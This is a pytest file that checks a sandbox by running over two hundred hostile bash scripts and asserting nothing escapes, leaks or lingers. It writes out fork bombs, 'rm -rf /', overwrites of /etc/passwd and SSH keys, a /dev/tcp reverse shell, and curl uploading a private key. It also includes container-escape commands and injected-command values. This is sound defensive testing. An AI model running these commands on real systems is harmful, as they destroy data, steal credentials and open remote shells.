"""Two hundred scripts that mean harm: nothing outside changes or is reached, nothing is left, and none takes long."""

from __future__ import annotations

import hashlib
import os
import socket
import tempfile
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import count
from pathlib import Path

import psutil
import pytest

from seatrial.capture import Request, capture
from seatrial.errors import InputError
from tests.helpers.capturing import sandboxed_or_skip

MOST_SECONDS = 10.0
SECONDS = 2.0  # that each may run

# Families, each with what stands for {}; PORT, WORLD and HOME are filled in below.
FAMILIES: dict[str, tuple[str, ...]] = {
    "{}; sleep 60": (
        ":(){ :|:& };:",
        "f() { f & f & }; f",
        "while :; do bash -c 'sleep 99' & done",
        "yes | xargs -P 99 -n1 sleep",
        "python3 -c 'import os\nwhile 1: os.fork()'",
        "perl -e 'fork while 1'",
        "for i in {1..9999}; do sleep 99 & done",
        'exec bash "$0"',
        'bash "$0" & bash "$0"',
        '. "$0"',
    ),
    "{}": (
        "while :; do :; done",
        "sleep 1000",
        "exec sleep 1000",
        "trap '' TERM INT HUP QUIT; while :; do sleep 1; done",
        "setsid sleep 1000 & disown; exit",
        "nohup sleep 1000 >/dev/null & exit 0",
        "read x < /dev/tty",
        "cat",
        "tail -f /dev/null",
        "python3 -c 'while 1: pass'",
        "kill -9 -1",
        "kill -9 $PPID",
        "kill -STOP $$",
        "wait",
        "until false; do (exec sleep 9); done",
        "coproc sleep 1000; wait",
        "mkfifo p; cat p",
        "exec 3<>/dev/zero; cat <&3",
        "(trap 'sleep 1000' EXIT)",
        "trap 'while :; do :; done' EXIT",
        "trap - DEBUG; sleep 1000",
        "suspend -f",
        "enable -n trap; unset BASH_ENV; PATH=/usr/bin; sleep 1000",
        "f() { f; }; f",
        "a=(); while :; do a+=(x); done",
    ),
    "rm -rf {}": (
        "/ --no-preserve-root",
        "/*",
        "~",
        "$HOME",
        "WORLD",
        "WORLD/*",
        "..",
        "../..",
        '"$PWD"',
        "/tmp",
        "/usr",
        "/etc",
        "/seatrial",
        "/seatrial/*",
        "/proc/1/root/*",
        "/proc/self/cwd/..",
        "/dev/shm",
        "/var",
        "/home",
        "/root",
    ),
    "echo harm > {}": (
        "/etc/passwd",
        "/etc/cron.d/x",
        "~/.bashrc",
        "~/.ssh/authorized_keys",
        "WORLD/x",
        "WORLD/file",
        "../x",
        "/x",
        "/tmp/harm",
        "/var/tmp/harm",
        "/usr/bin/harm",
        "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern",
        "/dev/sda",
        "/dev/mem",
        "/proc/1/oom_score_adj",
        "/proc/1/root/x",
        "/sys/power/state",
        "/seatrial/bin/.any",
        "/seatrial/startup.sh",
        "/seatrial/trace",
        '"$0"',
        "HOME/x",
        "/run/x",
    ),
    "ln -s {} link; echo harm > link/x; echo harm > link; rm -rf link/": (
        "/",
        "WORLD",
        "WORLD/file",
        "HOME",
        "/etc",
        "/etc/passwd",
        "..",
        "/proc/1/root",
        "/seatrial",
        "/tmp",
    ),
    "cp {} copy || mv {} moved; chmod 777 {}; chown nobody {}": (
        "/etc/shadow",
        "HOME/.ssh/id_rsa",
        "WORLD/file",
        "/usr/bin/bash",
        "/proc/1/environ",
        "/proc/1/mem",
    ),
    "{} && {}": (
        "mount -t tmpfs x /mnt",
        "umount -a",
        "unshare -r true",
        "unshare -m sh -c 'mount --bind / /mnt'",
        "chroot /proc/1/root",
        "nsenter -t 1 -a true",
        "mknod d b 8 0",
        "insmod x",
        "reboot -f",
        "shutdown now",
        "sudo rm -rf /",
        "su root -c id",
        "chmod u+s /usr/bin/bash",
        "setpriv --reuid=0 id",
        "pkill -9 python",
        "killall -9 python3",
        "docker run -v /:/h x sh -c 'rm -rf /h'",
        "systemctl stop sshd",
        "crontab - <<< '* * * * * x'",
        "at now <<< x",
        "ulimit -u unlimited",
        "ulimit -f unlimited",
    ),
    "{}  # sockets": (
        "echo harm > /dev/tcp/127.0.0.1/PORT",
        "echo harm > /dev/udp/127.0.0.1/PORT",
        "exec 5<>/dev/tcp/localhost/PORT",
        "/usr/bin/curl -m 2 http://127.0.0.1:PORT/",
        "echo harm > /dev/tcp/ADDRESS/PORT",
        "echo harm > /dev/udp/ADDRESS/PORT",
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", PORT), 2)'",
        "python3 -c 'import socket; socket.create_connection((\"ADDRESS\", PORT), 2)'",
        'python3 -c \'import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b"x", ("ADDRESS", PORT))\'',
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"WORLD/socket\")'",
        "curl http://ADDRESS:PORT/ -d @HOME/.ssh/id_rsa",
        "ssh root@ADDRESS true",
        "wget http://ADDRESS:PORT/x",
        "nc ADDRESS PORT",
        "perl -MIO::Socket -e 'IO::Socket::INET->new(\"127.0.0.1:PORT\")'",
        "getent hosts example.org",
        "git clone http://ADDRESS:PORT/x",
        "pip install http://ADDRESS:PORT/x",
        "ping -c 1 ADDRESS",
        "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
    ),
    "{}  # output": (
        "yes",
        "head -c 1G /dev/zero",
        "head -c 1G /dev/urandom > big",
        "dd if=/dev/zero of=/tmp/big bs=1M count=4000",
        "dd if=/dev/zero of=/seatrial/big bs=1M count=4000",
        "for i in {1..2000}; do head -c 30M /dev/zero > f$i; done",
        "for i in {1..99999}; do : > /seatrial/f$i; done",
        "yes > /dev/stderr",
        "while :; do python x; done",
        "yes | tee a b c d",
        "fallocate -l 100G big",
        "truncate -s 1T big",
        "mkdir -p $(printf 'd/%.0s' {1..900})",
        "printf '%s' {1..900000}",
        "x=$(head -c 3G /dev/zero | tr '\\0' a)",
        "python3 -c 'x = bytearray(10**11)'",
        "python3 -c 'print(\"a\" * 10**9)'",
        "tar cf x.tar / ",
        "find / -exec cat {} +",
        "cat /dev/urandom > /seatrial/records/0.json",
    ),
    'printf \'{}\' > "$0".x; bash "$0".x': (
        "\\\\x00\\\\xff",
        "if",
        "((",
        "<<E",
        "\\\\033[2J",
        "a=(",
        "${x:?}",
        "$((1/0))",
        "${!x*}",
        "exit 300",
        "return 1",
        "case",
        "\\\\r\\\\n",
        "{",
        "}",
        "!!",
        "&&",
        "select x in a; do :; done",
        "time",
        "[[",
        "coproc",
        "function",
        "%s%s%n",
        "..",
        "-x",
    ),
    "{}  # set": (
        "set -x; set -v",
        "set -e; false",
        "set -u; echo $x",
        "set -o noclobber; echo a > launch.sh",
        "shopt -s extdebug; false",
        "PS4='$(rm -rf WORLD)'; set -x; :",
        "export SEATRIAL_AT=$(yes | head -c 300000)",
        "export SEATRIAL_PARENT=/../../etc/passwd",
        "PROMPT_COMMAND='rm -rf WORLD'",
        "IFS=/; rm -rf WORLD",
        "cd /seatrial; mv records r; mv trace t",
        "unset PATH; ls",
        "command_not_found_handle() { rm -rf WORLD; }; zzz",
        "exec >&-",
        "exec 2>&-; exec 1>&-; false",
        "umask 777; touch x",
        "hash -p /bin/rm srun; srun -rf WORLD",
        "alias python=rm; shopt -s expand_aliases; python WORLD",
        "exit 137",
        "python train.py '$(rm -rf WORLD)' '`id`' $'\\033[2J' $'\\n'",
    ),
}


def _scripts() -> Iterator[str]:
    for family, parts in FAMILIES.items():
        yield from (f"#!/bin/bash\n{family.replace('{}', part)}\n" for part in parts)


def _state(folder: Path) -> dict[str, tuple[int, int, str]]:
    """Mode, size and content of everything below a folder."""
    found = {}
    for path in [folder, *folder.rglob("*")]:
        about = path.lstat()
        content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() and not path.is_symlink() else ""
        found[str(path)] = (about.st_mode, about.st_uid, content)
    return found


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Files that a script would like to have: a home with keys, and a folder beside it."""
    for name in ("home/.ssh/id_rsa", "home/.bashrc", "world/file", "world/folder/file"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(f"secret {name}\n")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "of-the-shell")
    return tmp_path


class _Listener:
    """Counts what reaches this machine over TCP, UDP, or a Unix socket."""

    def __init__(self, path: Path) -> None:
        self.tcp, self.udp, self.unix = (
            socket.socket(),
            socket.socket(type=socket.SOCK_DGRAM),
            socket.socket(socket.AF_UNIX),
        )
        self.tcp.bind(("0.0.0.0", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp.bind(("0.0.0.0", self.port))
        self.unix.bind(str(path))
        self.reached: list[str] = []
        for name, each in (("tcp", self.tcp), ("unix", self.unix)):
            each.listen()
            threading.Thread(target=self._accept, args=(name, each), daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _accept(self, name: str, listening: socket.socket) -> None:
        while True:
            try:
                listening.accept()
            except OSError:
                return
            self.reached.append(name)

    def _receive(self) -> None:
        while True:
            try:
                self.udp.recv(100)
            except OSError:
                return
            self.reached.append("udp")

    def close(self) -> None:
        """Ends it."""
        for each in (self.tcp, self.udp, self.unix):
            each.close()


def _address() -> str:
    addresses = (a.address for each in psutil.net_if_addrs().values() for a in each if a.family == socket.AF_INET)
    return next((address for address in addresses if not address.startswith("127.")), "127.0.0.1")


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_two_hundred_scripts_do_no_harm(world: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sandboxed_or_skip()
    temporary = world / "temporary"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    listener, number = _Listener(world / "world" / "socket"), count()
    words = {
        "PORT": str(listener.port),
        "WORLD": str(world / "world"),
        "HOME/": f"{world / 'home'}/",
        "ADDRESS": _address(),
    }
    scripts = list(_scripts())
    assert len(scripts) >= 200
    slow: list[tuple[float, str]] = []

    def one(script: str) -> None:
        path = world / "scripts" / str(next(number)) / "launch.sh"
        path.parent.mkdir(parents=True)
        for word, meant in words.items():
            script = script.replace(word, meant)
        path.write_text(script)
        before, began = _state(path.parent), time.monotonic()
        try:
            done = capture(Request(script=path, seconds=SECONDS))
            assert "secret home" not in done.ended.output
            assert "of-the-shell" not in str(done.calls)
        except InputError:
            pass
        slow.extend([(took, script)] if (took := time.monotonic() - began) > MOST_SECONDS else [])
        assert _state(path.parent) == before

    outside = {name: _state(world / name) for name in ("home", "world")}
    top = {
        name: sorted(map(str, Path(name).iterdir()))
        for name in ("/", "/etc", "/usr/bin", "/root")
        if os.access(name, os.R_OK)
    }
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(one, scripts))
    listener.close()

    assert slow == []
    assert listener.reached == []
    assert {name: _state(world / name) for name in ("home", "world")} == outside
    assert {name: sorted(map(str, Path(name).iterdir())) for name in top} == top
    assert list(temporary.iterdir()) == []
    assert not Path("/tmp/harm").exists()
    left = [
        each.cmdline()
        for each in psutil.process_iter(["cmdline"])
        if str(world) in " ".join(each.info["cmdline"] or [])
    ]
    assert left == []
